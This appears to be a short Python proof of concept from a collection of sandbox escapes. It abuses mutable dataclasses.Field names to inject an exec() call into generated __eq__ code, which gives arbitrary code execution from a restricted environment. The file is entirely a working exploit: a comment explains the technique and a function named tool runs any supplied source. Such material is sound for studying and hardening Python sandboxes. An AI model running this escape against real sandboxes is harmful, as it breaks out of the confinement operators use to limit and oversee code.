# family: runner
# Escape: dataclasses.Field objects are mutable; renaming a field to "x,exec(<source>)" (a public attribute
# store) makes every dataclass derived from Base generate its methods from that text: dataclasses exec()s
# `return (self.x,exec(...),)==...` as the body of __eq__.
import dataclasses


@dataclasses.dataclass
class Base:
    x: int = 0


def tool(source: str) -> bool:
    dataclasses.fields(Base)[0].name = "x,exec(" + repr(source) + ")"

    @dataclasses.dataclass(init=False, repr=False)
    class Child(Base):
        pass

    return Child() == Child()
